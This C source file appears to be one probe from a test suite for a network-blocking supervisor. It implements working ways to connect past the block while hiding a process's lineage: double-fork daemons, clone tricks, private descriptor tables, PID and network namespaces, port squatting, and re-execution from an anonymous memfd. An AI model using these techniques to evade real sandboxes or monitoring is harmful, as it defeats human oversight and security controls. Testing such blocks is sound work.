/*
 * A process that has left its family, its namespace or its program connects.
 * usage: lineage METHOD ADDRESS PORT [DELAY-MS]
 *   daemon         setsid, double fork, connect DELAY-MS after everyone above has ended
 *   subreaper      the same below a subreaper of our own
 *   vfork, files   child that shares the memory; child that shares the descriptor table only
 *   sibling        child made with CLONE_PARENT: the supervisor's own child
 *   own-table      thread with a descriptor table of its own, in which the number means another socket
 *   pid-namespace  first process of a process namespace, where numbers differ
 *   net-namespace  own network namespace; a socket made before, and the old namespace entered again
 *   false-listener own network namespace, in which we listen on the denied port, so that it looks like the block's
 *                  own; the connection then leaves from a socket of the old namespace
 *   port-squat     listen on the denied port at the wildcard address, for the same purpose, without a namespace
 *   memfd          executes a copy of itself that has no name
 */
#include "attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>

static struct target t;

static void try_it(const char *how) {
    if (deliver(&t) != 0)
        stopped("%s: connect: %s", how, strerror(errno));
    reached("%s", how);
}

static int child_main(void *how) {
    try_it(how);
    return 1;
}

static void in_clone(int flags, const char *how) {
    char *stack = mmap(NULL, 262144, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    pid_t child = clone(child_main, stack + 262144, flags | SIGCHLD, (void *)(uintptr_t)how);
    if (child < 0 && errno == EPERM && (flags & CLONE_NEWPID)) /* root without CAP_SYS_ADMIN does as others do */
        child = clone(child_main, stack + 262144, flags | CLONE_NEWUSER | SIGCHLD, (void *)(uintptr_t)how);
    if (child < 0)
        failed("clone");
    int status;
    if (flags & CLONE_PARENT) {
        usleep(300000); /* not ours to wait for */
        _exit(0);
    }
    waitpid(child, &status, 0);
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
}

static void daemonise(int delay_ms, int subreaper) {
    if (subreaper)
        prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            int null = open("/dev/null", O_RDWR);
            dup2(null, 0);
            dup2(null, 1);
            dup2(null, 2);
            usleep((unsigned)delay_ms * 1000U);
            try_it("daemon");
        }
        _exit(0);
    }
    wait(NULL);
    if (subreaper)
        usleep(((unsigned)delay_ms + 200U) * 1000U);
    _exit(0); /* the command has ended; the daemon has not */
}

static pthread_barrier_t step;

static void *own_table(void *unused) {
    (void)unused;
    if (unshare(CLONE_FILES) != 0)
        failed("unshare");
    /* here 600 is an internet socket; in the rest of the process it is a unix socket */
    int fd = socket(t.family, SOCK_STREAM, 0);
    dup2(fd, 600);
    if (connect(600, (struct sockaddr *)&t.address, t.length) != 0)
        stopped_at("connect");
    if (send(600, TOKEN, strlen(TOKEN), MSG_NOSIGNAL) < 0)
        stopped_at("send");
    reached("thread with its own table");
}

static void private_network(void) {
    if (unshare(CLONE_NEWNET) != 0 && unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0)
        failed("network namespace");
    struct ifreq up = {.ifr_name = "lo"};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    up.ifr_flags = IFF_UP | IFF_RUNNING;
    if (ioctl(fd, SIOCSIFFLAGS, &up) != 0)
        failed("loopback up");
    close(fd);
}

static int listen_here(const struct sockaddr_in *at) {
    int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one);
    return bind(fd, (const struct sockaddr *)at, sizeof *at) == 0 && listen(fd, 8) == 0 ? fd : -1;
}

static void connect_old(int fd, const char *how) {
    if (connect(fd, (struct sockaddr *)&t.address, t.length) != 0)
        stopped_at(how);
    if (send(fd, TOKEN, strlen(TOKEN), MSG_NOSIGNAL) < 0)
        stopped_at("send");
    reached("%s", how);
}

int main(int argc, char **argv) {
    if (argc < 4)
        cannot("usage: lineage METHOD ADDRESS PORT [DELAY-MS]");
    const char *m = argv[1];
    t = target_of(argv[2], argv[3]);
    int delay = argc > 4 ? atoi(argv[4]) : 300;
    if (strcmp(m, "daemon") == 0 || strcmp(m, "subreaper") == 0)
        daemonise(delay, m[0] == 's');
    if (strcmp(m, "vfork") == 0)
        in_clone(CLONE_VM | CLONE_VFORK, "vfork");
    if (strcmp(m, "files") == 0)
        in_clone(CLONE_FILES, "shared descriptor table");
    if (strcmp(m, "sibling") == 0)
        in_clone(CLONE_PARENT, "CLONE_PARENT");
    if (strcmp(m, "pid-namespace") == 0)
        in_clone(CLONE_NEWPID, "process namespace");
    if (strcmp(m, "own-table") == 0) {
        pthread_t thread;
        pthread_barrier_init(&step, NULL, 1);
        dup2(socket(AF_UNIX, SOCK_STREAM, 0), 600);
        pthread_create(&thread, NULL, own_table, NULL);
        pthread_join(thread, NULL);
    }
    if (strcmp(m, "net-namespace") == 0) {
        int old = open("/proc/self/ns/net", O_RDONLY), fd = socket(t.family, SOCK_STREAM, 0);
        private_network();
        if (setns(old, CLONE_NEWNET) == 0)
            try_it("entered the old namespace again");
        connect_old(fd, "socket made before the namespace");
    }
    if (strcmp(m, "false-listener") == 0) {
        int fd = socket(t.family, SOCK_STREAM, 0);
        private_network();
        if (listen_here((struct sockaddr_in *)&t.address) < 0)
            failed("listen in the new namespace");
        connect_old(fd, "listener of the same number in a namespace");
    }
    if (strcmp(m, "port-squat") == 0) {
        struct sockaddr_in any = *(struct sockaddr_in *)&t.address;
        any.sin_addr.s_addr = htonl(INADDR_ANY);
        (void)listen_here(&any);
        any.sin_addr.s_addr = htonl(INADDR_LOOPBACK + 7); /* 127.0.0.8 */
        (void)listen_here(&any);
        try_it("listener of the same number beside it");
    }
    if (strcmp(m, "memfd") == 0) {
        char buffer[65536];
        int from = open("/proc/self/exe", O_RDONLY), to = memfd_create("", 0);
        ssize_t n;
        while ((n = read(from, buffer, sizeof buffer)) > 0)
            if (write(to, buffer, (size_t)n) != n)
                stopped_at("write to the memfd");
        char *again[] = {(char *)"lineage", (char *)"vfork", argv[2], argv[3], NULL};
        fexecve(to, again, environ);
        failed("fexecve");
    }
    cannot("unknown method %s", m);
}
